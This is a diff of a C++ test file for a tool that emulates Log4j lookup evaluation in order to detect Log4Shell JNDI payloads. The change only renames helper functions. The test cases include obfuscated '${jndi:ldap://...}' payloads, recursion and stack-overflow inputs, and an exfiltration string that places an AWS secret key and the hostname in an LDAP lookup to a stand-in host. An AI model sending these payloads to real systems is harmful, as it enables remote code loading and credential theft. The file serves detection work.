@@ -10,12 +10,12 @@ namespace {
 
 using Names = std::vector<std::string>;
 
-Evaluation Subst(std::string_view text, const LookupEnvironment& env = {}) {
-  return EvaluateLookups(text, EvalPath::kSubstitute, env);
+Evaluation subst(std::string_view text, const LookupEnvironment& env = {}) {
+  return evaluate_lookups(text, EvalPath::kSubstitute, env);
 }
 
-Evaluation Message(std::string_view text, const LookupEnvironment& env = {}) {
-  return EvaluateLookups(text, EvalPath::kMessage, env);
+Evaluation message(std::string_view text, const LookupEnvironment& env = {}) {
+  return evaluate_lookups(text, EvalPath::kMessage, env);
 }
 
 // The catalogue of research/hunting.md section 1a: every string that reaches
@@ -62,7 +62,7 @@ TEST(EvaluatorTest, ObfuscationsReachJndi) {
       {"${jndi:java:comp/env/jdbc/x}", "java:comp/env/jdbc/x"},
   };
   for (const Case& c : cases) {
-    Evaluation e = Subst(c.payload);
+    Evaluation e = subst(c.payload);
     EXPECT_EQ(e.outcome, EvalOutcome::kCompleted) << c.payload;
     ASSERT_FALSE(e.jndi_names.empty()) << c.payload;
     EXPECT_EQ(e.jndi_names[0], c.name) << c.payload;
@@ -81,8 +81,8 @@ TEST(EvaluatorTest, NearMissesDoNotReachJndi) {
            "${jenkins.url} node dispatched in 3 ms: load avg p: 0.1",
            "Property ${jboss.server.base.dir} jndi binding: ldap://corp.example:389/dc=corp",
        }) {
-    EXPECT_TRUE(Subst(payload).jndi_names.empty()) << payload;
-    EXPECT_TRUE(Message(payload).jndi_names.empty()) << payload;
+    EXPECT_TRUE(subst(payload).jndi_names.empty()) << payload;
+    EXPECT_TRUE(message(payload).jndi_names.empty()) << payload;
   }
 }
 
@@ -90,90 +90,90 @@ TEST(EvaluatorTest, NearMissesDoNotReachJndi) {
 TEST(EvaluatorTest, MessagePathRescans) {
   for (const char* payload : {"$${jndi:ldap://x.example/a} ${nope}", "${date:'$'}{jndi:ldap://x.example/a} ${x}",
                               "${x:-$}{jndi:ldap://x.example/a} ${y}"}) {
-    EXPECT_TRUE(Subst(payload).jndi_names.empty()) << payload;
-    EXPECT_EQ(Message(payload).jndi_names, Names{"ldap://x.example/a"}) << payload;
+    EXPECT_TRUE(subst(payload).jndi_names.empty()) << payload;
+    EXPECT_EQ(message(payload).jndi_names, Names{"ldap://x.example/a"}) << payload;
   }
 }
 
 // The %m path substitutes the whole message again at each later "${": one
 // event calls JNDI several times (hunting.md measured 13 calls for T40).
 TEST(EvaluatorTest, MessagePathRepeatsCalls) {
-  Evaluation e = Message("${jndi:ldap://a/b} ${x} ${y}");
+  Evaluation e = message("${jndi:ldap://a/b} ${x} ${y}");
   EXPECT_EQ(e.jndi_call_count, 3u);
   EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});
-  EXPECT_EQ(Subst("${jndi:ldap://a/b} ${x} ${y}").jndi_call_count, 1u);
+  EXPECT_EQ(subst("${jndi:ldap://a/b} ${x} ${y}").jndi_call_count, 1u);
 }
 
 TEST(EvaluatorTest, MessagePathCountsUtf16Units) {
   // After the first pass replaces ${date:'\U0001F600'} (a surrogate pair in
   // Java), the loop index lands on the pair's second unit, then on "${".
-  Evaluation e = Message("${date:'\xF0\x9F\x98\x80'}$${jndi:ldap://a/b} ${x}");
+  Evaluation e = message("${date:'\xF0\x9F\x98\x80'}$${jndi:ldap://a/b} ${x}");
   EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});
 }
 
 TEST(EvaluatorTest, DefaultsAndDelimiters) {
-  EXPECT_EQ(Subst("${a:b:-c:-d}").output, "c:-d");  // the first ":-" wins
-  EXPECT_EQ(Subst("${foo:bar}").output, "${foo:bar}");
-  EXPECT_EQ(Subst("${::-x}").output, "x");
-  EXPECT_EQ(Subst("${x:\\-y:-z}").output, "z");       // name "x:y" is absent
-  EXPECT_EQ(Subst("${hostName}").output, "victim-host");
-  EXPECT_EQ(Subst("${nope:hostName}").output, "victim-host");  // unknown prefix -> properties
-  EXPECT_EQ(Subst("${env:X:-j}").output, "j");
-  EXPECT_EQ(Subst("${lower:}").output, "");
-  EXPECT_EQ(Subst("$${x}").output, "${x}");
-  EXPECT_EQ(Subst("$$${x}").output, "$${x}");
-  EXPECT_EQ(Subst("${${}}").output, "${${}}");
+  EXPECT_EQ(subst("${a:b:-c:-d}").output, "c:-d");  // the first ":-" wins
+  EXPECT_EQ(subst("${foo:bar}").output, "${foo:bar}");
+  EXPECT_EQ(subst("${::-x}").output, "x");
+  EXPECT_EQ(subst("${x:\\-y:-z}").output, "z");       // name "x:y" is absent
+  EXPECT_EQ(subst("${hostName}").output, "victim-host");
+  EXPECT_EQ(subst("${nope:hostName}").output, "victim-host");  // unknown prefix -> properties
+  EXPECT_EQ(subst("${env:X:-j}").output, "j");
+  EXPECT_EQ(subst("${lower:}").output, "");
+  EXPECT_EQ(subst("$${x}").output, "${x}");
+  EXPECT_EQ(subst("$$${x}").output, "$${x}");
+  EXPECT_EQ(subst("${${}}").output, "${${}}");
 }
 
 TEST(EvaluatorTest, JavaCaseMapping) {
-  EXPECT_EQ(Subst("${upper:\xC4\xB1}").output, "I");             // U+0131
-  EXPECT_EQ(Subst("${upper:\xC5\xBF}").output, "S");             // U+017F
-  EXPECT_EQ(Subst("${lower:\xE2\x84\xAA}").output, "k");         // U+212A KELVIN SIGN
-  EXPECT_EQ(Subst("${upper:\xC3\x9F}").output, "SS");            // U+00DF
-  EXPECT_EQ(Subst("${lower:\xC4\xB0}").output, "i\xCC\x87");     // U+0130 -> i + U+0307
-  EXPECT_EQ(Subst("${JNDI:x}").jndi_names, Names{"java:comp/env/x"});
-  EXPECT_NE(Subst("${JNDI:x}").techniques & kTechPrefixCase, 0u);
-  EXPECT_NE(Subst("${upper:\xC4\xB1}").techniques & kTechUnicodeCase, 0u);
+  EXPECT_EQ(subst("${upper:\xC4\xB1}").output, "I");             // U+0131
+  EXPECT_EQ(subst("${upper:\xC5\xBF}").output, "S");             // U+017F
+  EXPECT_EQ(subst("${lower:\xE2\x84\xAA}").output, "k");         // U+212A KELVIN SIGN
+  EXPECT_EQ(subst("${upper:\xC3\x9F}").output, "SS");            // U+00DF
+  EXPECT_EQ(subst("${lower:\xC4\xB0}").output, "i\xCC\x87");     // U+0130 -> i + U+0307
+  EXPECT_EQ(subst("${JNDI:x}").jndi_names, Names{"java:comp/env/x"});
+  EXPECT_NE(subst("${JNDI:x}").techniques & kTechPrefixCase, 0u);
+  EXPECT_NE(subst("${upper:\xC4\xB1}").techniques & kTechUnicodeCase, 0u);
 }
 
 TEST(EvaluatorTest, DateLookup) {
   LookupEnvironment env;
   env.time_millis = 1639150000123;  // 2021-12-10T15:26:40.123Z
-  EXPECT_EQ(Subst("${date:'j'}", env).output, "j");
-  EXPECT_EQ(Subst("${date:}", env).output, "");
-  EXPECT_EQ(Subst("${date:''}", env).output, "'");
-  EXPECT_EQ(Subst("${date:yyyy-MM-dd}", env).output, "2021-12-10");
-  EXPECT_EQ(Subst("${date:j}", env).output, "12/10/21, 3:26 PM");
+  EXPECT_EQ(subst("${date:'j'}", env).output, "j");
+  EXPECT_EQ(subst("${date:}", env).output, "");
+  EXPECT_EQ(subst("${date:''}", env).output, "'");
+  EXPECT_EQ(subst("${date:yyyy-MM-dd}", env).output, "2021-12-10");
+  EXPECT_EQ(subst("${date:j}", env).output, "12/10/21, 3:26 PM");
 }
 
 TEST(EvaluatorTest, Recursion) {
-  Evaluation e = Subst("${${::-${::-$${::-j}}}}");  // L14
+  Evaluation e = subst("${${::-${::-$${::-j}}}}");  // L14
   EXPECT_EQ(e.outcome, EvalOutcome::kInfiniteLoop);
   EXPECT_NE(e.techniques & kTechRecursion, 0u);
-  EXPECT_EQ(Subst("${event:Message}").outcome, EvalOutcome::kInfiniteLoop);
+  EXPECT_EQ(subst("${event:Message}").outcome, EvalOutcome::kInfiniteLoop);
   // Through a name, each level starts a fresh cycle list: Java overflows its stack.
-  EXPECT_EQ(Subst("${${event:Message}}").outcome, EvalOutcome::kStackOverflow);
+  EXPECT_EQ(subst("${${event:Message}}").outcome, EvalOutcome::kStackOverflow);
   LookupEnvironment no_file;
   no_file.config_file = false;  // DefaultConfiguration has no event lookup
-  EXPECT_EQ(Subst("${${event:Message}}", no_file).outcome, EvalOutcome::kCompleted);
+  EXPECT_EQ(subst("${${event:Message}}", no_file).outcome, EvalOutcome::kCompleted);
 }
 
 TEST(EvaluatorTest, JavaLookupErrorsDropTheEvent) {
-  Evaluation e = Subst("${jndi:ldap://a/b}${java:xx:-j}${jndi:ldap://c/d}");
+  Evaluation e = subst("${jndi:ldap://a/b}${java:xx:-j}${jndi:ldap://c/d}");
   EXPECT_EQ(e.outcome, EvalOutcome::kLookupError);
   EXPECT_EQ(e.jndi_names, Names{"ldap://a/b"});  // calls made before the exception count
 }
 
 TEST(EvaluatorTest, Exfiltration) {
-  Evaluation e = Subst("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/${hostName}/${java:version}}");
+  Evaluation e = subst("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/${hostName}/${java:version}}");
   EXPECT_EQ(e.jndi_names, Names{"ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/victim-host/Java version 1.8.0_181"});
   EXPECT_EQ(e.exfiltrated, (Names{"env:AWS_SECRET_ACCESS_KEY", "hostName", "java:version"}));
   // Padding is not exfiltration, nor are separators.
-  e = Subst("${${env:NaN:-j}ndi:ldap:${sys:file.separator}/x.example/${env:X:-a}}");
+  e = subst("${${env:NaN:-j}ndi:ldap:${sys:file.separator}/x.example/${env:X:-a}}");
   EXPECT_EQ(e.jndi_names, Names{"ldap://x.example/a"});
   EXPECT_TRUE(e.exfiltrated.empty());
   // Lookups outside the JNDI name are not exfiltration either.
-  EXPECT_TRUE(Subst("${env:USER} ${jndi:ldap://x.example/a}").exfiltrated.empty());
+  EXPECT_TRUE(subst("${env:USER} ${jndi:ldap://x.example/a}").exfiltrated.empty());
 }
 
 TEST(EvaluatorTest, BoundsHostileInput) {
@@ -182,26 +182,26 @@ TEST(EvaluatorTest, BoundsHostileInput) {
   for (int i = 0; i < 100000; ++i) deep += "${::-";
   deep += "j";
   for (int i = 0; i < 100000; ++i) deep += "}";
-  Evaluation e = Subst(deep);
+  Evaluation e = subst(deep);
   EXPECT_TRUE(e.outcome == EvalOutcome::kStackOverflow || e.outcome == EvalOutcome::kBudgetExceeded);
 
   // The %m rescan can grow the text forever.
-  e = Message("a ${x} $${event:Message}b");
+  e = message("a ${x} $${event:Message}b");
   EXPECT_EQ(e.outcome, EvalOutcome::kBudgetExceeded);
 
   // Many placeholders: the unchanged passes are replayed, not recomputed.
   std::string many;
   for (int i = 0; i < 20000; ++i) many += "${x} ";
   many += "${jndi:ldap://a/b}";
-  e = Message(many);
+  e = message(many);
   EXPECT_EQ(e.outcome, EvalOutcome::kCompleted);
   EXPECT_EQ(e.jndi_call_count, 20001u);
   EXPECT_EQ(e.jndi_calls.size(), EvalLimits{}.max_recorded_calls);
 }
 
 TEST(EvaluatorTest, TechniqueNames) {
-  EXPECT_EQ(TechniqueNames(kTechDefaultValue | kTechCaseLookup), (Names{"default_value", "case_lookup"}));
-  EXPECT_EQ(TechniqueNames(kTechMessageRescan), Names{"message_rescan"});
+  EXPECT_EQ(technique_names(kTechDefaultValue | kTechCaseLookup), (Names{"default_value", "case_lookup"}));
+  EXPECT_EQ(technique_names(kTechMessageRescan), Names{"message_rescan"});
 }
 
 }  // namespace
